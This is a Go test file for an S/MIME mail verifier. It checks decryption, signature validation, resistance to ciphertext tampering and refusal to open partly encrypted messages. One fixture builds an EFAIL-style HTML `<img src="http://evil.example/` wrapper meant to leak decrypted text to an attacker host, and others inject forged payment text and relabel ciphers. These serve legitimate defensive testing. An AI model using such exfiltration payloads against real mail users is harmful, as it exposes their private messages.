package smime

import (
	"bytes"
	"context"
	"os"
	"slices"
	"strings"
	"testing"

	"assay/verify/authres"
	"assay/verify/message"
	"assay/verify/smime/envelope"
)

// keys are those of the gateway: for bob, to whom everything is encrypted in these tests.
func (l *lab) gateway() Options {
	l.t.Helper()
	if _, err := os.Stat(l.path("bob.crt")); err != nil {
		l.signer("bob", newRSA(l.t, 2048), "bob@example.net")
	}
	keys, err := envelope.Load([]string{l.path("bob.key"), l.path("bob.crt")})
	if err != nil {
		l.t.Fatal(err)
	}
	o := l.options()
	o.Keys = keys
	return o
}

// forBob encrypts an entity for bob.
func (l *lab) forBob(entity, cipher string, options ...string) []byte {
	l.t.Helper()
	return l.cms(entity, slices.Concat([]string{"-encrypt", "-" + cipher}, options, []string{"bob.crt"})...)
}

// enveloped makes a message of an encrypted object.
func enveloped(head string, der []byte) []byte {
	return bytes.Replace(opaque(head, der), []byte("signed-data"), []byte("enveloped-data"), 1)
}

// TestOpened opens what is encrypted as a whole, and says about what is inside no more than was proven.
func TestOpened(t *testing.T) {
	l := newLab(t)
	o := l.gateway()
	const gcm, cbc = "aes-256-gcm", "aes-256-cbc"
	signed := entityDetached(text, l.sign("alice", text), "in")
	whole := func(entity, cipher string) []byte { return enveloped(aliceHead, l.forBob(entity, cipher)) }
	for _, test := range []struct {
		name          string
		mail          []byte
		state         State
		authenticated bool
		section       string
		reason        string
	}{
		{"nobody signed, GCM", whole(text, gcm), Encrypted, true, "", "opened here, and nobody has signed"},
		{"nobody signed, CBC", whole(text, cbc), Encrypted, false, "", "may have been changed"},
		{"signed, GCM", whole(signed, gcm), Verified, true, "1/2", ""},
		{"signed, CBC", whole(signed, cbc), Verified, true, "1/2", ""},
		{"signed, 3DES", whole(signed, "des3"), Verified, true, "1/2", ""},
		{"signed opaque", whole(entityOpaque(l.signOpaque("alice", text)), cbc), Verified, true, "1/1", ""},
		{"signed, OAEP, key identifier, stream", enveloped(aliceHead, l.cms(signed, "-encrypt", "-aes-128-cbc", "-stream", "-keyid", "-recip", "bob.crt", "-keyopt", "rsa_padding_mode:oaep")), Verified, true, "1/2", ""},
		{"signed twice", whole(entityOpaque(l.signOpaque("alice", entityOpaque(l.signOpaque("eve", text)))), cbc), Verified, true, "1/1", ""},
		{"signed by another", whole(entityDetached(text, l.sign("eve", text), "in"), cbc), WrongSender, false, "1/2", "eve@example.com"},
		{"signed by another, GCM", whole(entityDetached(text, l.sign("eve", text), "in"), gcm), WrongSender, true, "1/2", "eve@example.com"},
		{"altered", whole(entityDetached(evil, l.sign("alice", text), "in"), cbc), Altered, false, "1/2", "altered"},
		{"only a part signed", whole("Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n"+evil+"\r\n--m\r\n"+signed+"\r\n--m--\r\n", cbc), Partial, false, "1/2.2", "only part 2 is signed"},
		{"text before the signed part", whole(strings.Replace(signed, "--in", "Pay 1000000 EUR to account 2 at once.\r\n--in", 1), cbc), Partial, false, "1/2", "nobody signed"},
		{"named by its file name only", as(t, whole(signed, cbc), "application/pkcs7-mime; smime-type=enveloped-data", "application/octet-stream"), Verified, true, "1/2", ""},
	} {
		v := verify(t, o, test.mail, l.at)
		checkSound(t, test.name, v)
		if v.State != test.state || !v.Opened || !v.Encrypted || v.Opening == nil || v.Section != test.section || !strings.Contains(v.Reason, test.reason) {
			t.Errorf("%s: %s %q, opened %v, section %q", test.name, v.State, v.Reason, v.Opened, v.Section)
			continue
		}
		if v.Opening.Authenticated != test.authenticated || slices.Contains(v.Flags, FlagNotAuthenticated) == test.authenticated {
			t.Errorf("%s: authenticated %v, flags %v", test.name, v.Opening.Authenticated, v.Flags)
		}
		if strings.Contains(strings.Join(v.Steps, "\n")+v.Reason, "pay 100") {
			t.Errorf("%s: the text is in the report", test.name)
		}
		if v.Opening.Legacy != strings.Contains(test.name, "3DES") || slices.Contains(v.Flags, FlagLegacyCipher) != v.Opening.Legacy {
			t.Errorf("%s: legacy %v, flags %v", test.name, v.Opening.Legacy, v.Flags)
		}
	}
}

// TestStaysClosed opens nothing that is only a part of a message, or whose header can be read in two ways, or that is for
// others.
func TestStaysClosed(t *testing.T) {
	l := newLab(t)
	o := l.gateway()
	sealed := l.forBob(text, "aes-256-cbc")
	part := entityOpaque(sealed)
	exfiltrate := "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/"
	mixed := func(kind string) []byte {
		return []byte(aliceHead + "Content-Type: multipart/" + kind + "; boundary=m\r\n\r\n--m\r\n" + exfiltrate + "\r\n--m\r\n" + part +
			"\r\n--m\r\nContent-Type: text/html\r\n\r\n\">\r\n--m--\r\n")
	}
	outer := detached(aliceHead, part, l.sign("alice", part))
	closed := enveloped(aliceHead, sealed)
	for _, test := range []struct {
		name   string
		mail   []byte
		state  State
		reason string
	}{
		{"between HTML", mixed("mixed"), Encrypted, "only part 2 is encrypted"},
		{"between HTML, related", mixed("related"), Encrypted, "only part 2 is encrypted"},
		{"alone in a multipart", []byte(aliceHead + "Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n" + part + "\r\n--m--\r\n"), Encrypted, "only part 1 is encrypted"},
		{"in an attached message", []byte(aliceHead + "Content-Type: message/rfc822\r\n\r\n" + string(closed)), Encrypted, ""},
		{"under a signature", outer, Partial, "signed from outside over an encrypted content"},
		{"under an opaque signature", opaque(aliceHead, l.signOpaque("alice", part)), Partial, "signed from outside"},
		{"two types", as(t, closed, "Content-Type: app", "Content-Type: text/html\r\nContent-Type: app"), "", ""},
		{"a header that ends in two places", as(t, closed, "Subject:", " \r\nSubject:"), Encrypted, "not opened here"},
		{"for alice", enveloped(aliceHead, l.encrypt(text)), Encrypted, "for others than this mail system"},
		{"with a password", enveloped(aliceHead, l.cms(text, "-encrypt", "-aes256", "-pwri_password", "x")), Encrypted, "password"},
		{"with RC2 for bob", enveloped(aliceHead, relabelled(t, l.forBob(text, "des3"))), Encrypted, "rc2-cbc"},
		{"encrypted twice", enveloped(aliceHead, l.forBob(entityOpaque(l.encrypt(text)), "aes-256-gcm")), Encrypted, "encrypted"},
		{"encrypted twice for bob", enveloped(aliceHead, l.forBob(part, "aes-256-gcm")), Encrypted, "encrypted"},
		{"a part of it encrypted again", enveloped(aliceHead, l.forBob(entityDetached(string(mixed("mixed")[len(aliceHead):]), l.sign("alice", string(mixed("mixed")[len(aliceHead):])), "in"), "aes-256-gcm")), Verified, ""},
	} {
		v := verify(t, o, test.mail, l.at)
		checkSound(t, test.name, v)
		if test.state != "" && v.State != test.state || v.Opened || v.Opening != nil || !strings.Contains(v.Reason, test.reason) {
			t.Errorf("%s: %s %q, opened %v", test.name, v.State, v.Reason, v.Opened)
		}
	}
	o.Keys = nil
	if v := verify(t, o, closed, l.at); v.State != Encrypted || v.Opened || v.Reason != "encrypted, so content and author are not checked" {
		t.Errorf("without keys: %s %q", v.State, v.Reason)
	}
}

// relabelled is an object encrypted with 3DES that claims to be encrypted with RC2.
func relabelled(t *testing.T, der []byte) []byte {
	t.Helper()
	oid := []byte{6, 8, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 3, 7}
	i := bytes.Index(der, oid)
	if i < 0 {
		t.Fatal("the algorithm is not there")
	}
	out := slices.Clone(der)
	out[i+len(oid)-1] = 2
	return out
}

// TestOpenForScanners gives the same entity to those who look into messages, and nothing of what stays closed.
func TestOpenForScanners(t *testing.T) {
	l := newLab(t)
	v := NewVerifier(l.gateway())
	open := func(v *Verifier, raw []byte) (string, bool) {
		m, err := message.Read(bytes.NewReader(raw), message.Envelope{ReceivedAt: l.at}, message.Limits{})
		if err != nil {
			t.Fatal(err)
		}
		defer m.Close()
		entity, ok := v.Open(m)
		return string(entity), ok
	}
	sealed := enveloped(aliceHead, l.forBob(text, "aes-256-cbc"))
	if entity, ok := open(v, sealed); !ok || entity != text {
		t.Errorf("%v %q", ok, entity)
	}
	for name, raw := range map[string][]byte{
		"a text": []byte(aliceHead + text), "a signature": opaque(aliceHead, l.signOpaque("alice", text)), "garbage": opaque(aliceHead, []byte("x")),
		"a part":     []byte(aliceHead + "Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n" + string(sealed[len(aliceHead):]) + "\r\n--m--\r\n"),
		"for others": enveloped(aliceHead, l.encrypt(text)),
	} {
		if entity, ok := open(v, raw); ok || entity != "" {
			t.Errorf("%s was opened", name)
		}
	}
	if _, ok := open(nil, sealed); ok {
		t.Error("opened without a verifier")
	}
	if _, ok := open(v.With(nil), sealed); ok {
		t.Error("opened without keys")
	}
}

// TestOpenedFlips alters every octet of an encrypted message, one at a time. Nothing altered is verified: what was
// altered then is no part of the text, and nothing that is not authenticated is called so.
func TestOpenedFlips(t *testing.T) {
	l := newLab(t)
	o := l.gateway()
	o.Explain = false
	v := NewVerifier(o)
	for _, cipher := range []string{"aes-128-gcm", "aes-128-cbc"} {
		for name, entity := range map[string]string{"plain": text, "signed": entityDetached(text, l.sign("alice", text), "in")} {
			der := l.forBob(entity, cipher)
			opened := 0
			for i := range der {
				if name == "signed" && i%10 != 0 || testing.Short() && i%8 != 0 {
					continue
				}
				damaged := slices.Clone(der)
				damaged[i] ^= 1 << (i % 8)
				m, err := message.Read(bytes.NewReader(enveloped(aliceHead, damaged)), message.Envelope{ReceivedAt: l.at}, message.Limits{})
				if err != nil {
					t.Fatal(err)
				}
				got := v.Verify(context.Background(), m, m.Header.Author())
				if got.Opened {
					opened++
				}
				same := got.Opening != nil && strings.Contains(string(got.Opening.Entity()), text)
				if !same && (got.State == Verified || got.Opening != nil && got.Opening.Authenticated) || got.Result == authres.TempError {
					t.Errorf("%s %s, octet %d: %s %q", cipher, name, i, got.State, got.Reason)
				}
			}
			t.Logf("%s %s: %d of %d opened", cipher, name, opened, len(der))
		}
	}
}
